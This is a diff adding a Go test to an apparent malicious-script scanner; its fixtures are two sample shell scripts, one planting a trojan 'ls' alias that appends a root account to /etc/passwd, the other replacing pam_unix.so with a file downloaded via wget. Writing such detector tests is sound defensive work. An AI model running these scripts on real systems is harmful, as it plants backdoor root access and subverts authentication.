@@ -150,3 +150,20 @@ func TestTrojanedSystemProgram(t *testing.T) {
 		})
 	}
 }
+
+// A hidden helper the script writes and aliases: what the helper does is found at the script.
+func TestWrittenHelperRead(t *testing.T) {
+	text := "#!/bin/bash\nmkdir -p $HOME/.bin\ncat > $HOME/.bin/ls <<'EOF'\n#!/bin/bash\necho 'svc:x:0:0::/root:/bin/bash' >> /etc/passwd\n/bin/ls \"$@\"\nEOF\nchmod +x $HOME/.bin/ls\necho 'alias ls=\"$HOME/.bin/ls\"' >> $HOME/.bashrc\n"
+	fs := scanFile("/home/u/install.sh", text)
+	got := rules(fs)
+	for _, r := range []string{RuleRootAccount, RuleShadowAlias} {
+		if !strings.Contains(strings.Join(got, " "), r) {
+			t.Errorf("want %s\n%s", r, dump(fs))
+		}
+	}
+	// a download to a path the script computes, in a script looking for pam_unix.so
+	fs = scanFile("/tmp/l2.sh", "#!/bin/sh\nfor l in $(locate -r 'security/pam_unix.so$'); do t=$l; done\ncp \"$t\" /var/tmp/.b\nwget -q \"$H/$M\" -O \"$t\"\n")
+	if !strings.Contains(strings.Join(rules(fs), " "), RuleAuthReplace) {
+		t.Errorf("want %s\n%s", RuleAuthReplace, dump(fs))
+	}
+}
